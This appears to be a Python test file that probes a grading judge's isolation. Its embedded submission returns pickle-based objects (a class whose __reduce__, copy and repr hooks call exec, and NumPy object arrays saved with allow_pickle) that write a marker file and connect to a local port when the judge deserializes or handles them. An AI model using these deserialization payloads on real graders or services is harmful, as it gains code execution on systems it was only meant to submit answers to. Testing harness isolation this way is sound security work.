"""Returns what would run when it is unpickled, as objects, as bytes in arrays, as files of NumPy and torch.

Success: a file or a connection on the judge's side.
"""

SUBMISSION = r"""
import io
import os
import pickle

import numpy as np

CODE = (
    "import socket, pathlib; pathlib.Path({HOME!r}, 'mark').write_text('x'); "
    "socket.create_connection(('127.0.0.1', {TCP_PORT}))".replace("{HOME!r}", repr("{HOME}"))
)


class Bomb:
    def __reduce__(self):
        return exec, (CODE,)

    __reduce_ex__ = lambda self, protocol: (exec, (CODE,))
    __getstate__ = __copy__ = lambda self: exec(CODE)
    __deepcopy__ = lambda self, memo: exec(CODE)
    __repr__ = __str__ = __format__ = lambda self, *a: exec(CODE)


def double(x):
    return np.array([Bomb()], dtype=object)


def total(x, rng):
    return [Bomb(), pickle.dumps(Bomb())]


def label(x, centers):
    stream = io.BytesIO()
    np.save(stream, np.array([Bomb()], dtype=object), allow_pickle=True)
    for name in ("result.npy", "result.pkl", "/tmp/result.npy"):
        with open(name, "wb") as file:
            file.write(stream.getvalue())
    return np.frombuffer(stream.getvalue(), np.uint8)
"""
